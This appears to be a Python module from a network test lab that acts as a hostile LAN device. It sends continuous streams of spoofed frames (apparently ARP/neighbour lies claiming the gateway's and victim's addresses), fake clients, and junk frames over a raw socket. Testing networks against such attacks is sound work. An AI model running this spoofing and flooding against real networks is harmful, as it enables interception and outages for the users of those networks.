"""A hostile device on a LAN: `python -m lab.siege.device GATEWAY GATEWAY6 VICTIM VICTIM6`. Its interface is eth0."""

import asyncio
import socket
import sys
from collections import Counter
from collections.abc import Iterator
from ipaddress import IPv4Address, IPv6Address
from pathlib import Path

from lab.siege import frames
from lab.siege.attacker import Counts, attack
from lab.siege.frames import Frame

INTERFACE = "eth0"
PACE = {"clients": 0.01, "lies": 0.02, "nobody": 0.002, "rubbish": 0.02}
"""Seconds between two frames of each kind."""


async def send(wire: socket.socket, some: Iterator[Frame], pause: float, done: Counts) -> None:
    """Send one frame after the other, without end."""
    for what, frame in some:
        try:
            wire.send(frame[:1514].ljust(60, b"\0"))
            done[what] += 1
        except OSError:
            done["frames that its own kernel refused"] += 1
        await asyncio.sleep(pause)


async def main(
    gateway: IPv4Address, gateway6: IPv6Address, victim: IPv4Address, victim6: IPv6Address, done: Counts
) -> None:
    """Run all of it at once."""
    mac = bytes.fromhex(Path(f"/sys/class/net/{INTERFACE}/address").read_text().strip().replace(":", ""))
    with socket.socket(socket.AF_PACKET, socket.SOCK_RAW) as wire:
        wire.bind((INTERFACE, 0))
        async with asyncio.TaskGroup() as group:
            for kind, some in {
                "clients": frames.clients(gateway - 1, gateway6 - 1, gateway),
                "lies": frames.lies(mac, [gateway, victim], [gateway6, victim6]),
                "nobody": frames.nobody(mac),
                "rubbish": frames.rubbish(mac, victim),
            }.items():
                group.create_task(send(wire, some, PACE[kind], done))


if __name__ == "__main__":
    counts: Counts = Counter()
    four, six = [IPv4Address(word) for word in sys.argv[1::2]], [IPv6Address(word) for word in sys.argv[2::2]]
    attack(main(four[0], six[0], four[1], six[1], counts), counts)
